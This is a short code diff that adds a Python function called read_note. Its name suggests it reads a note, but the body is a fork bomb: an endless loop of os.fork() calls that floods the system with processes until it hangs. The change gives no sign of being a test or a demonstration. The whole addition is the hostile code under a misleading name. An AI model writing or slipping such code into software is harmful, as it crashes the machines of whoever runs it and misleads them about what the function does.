@@ -1,0 +1,4 @@
+import os
+def read_note(name):
+    while True:
+        os.fork()
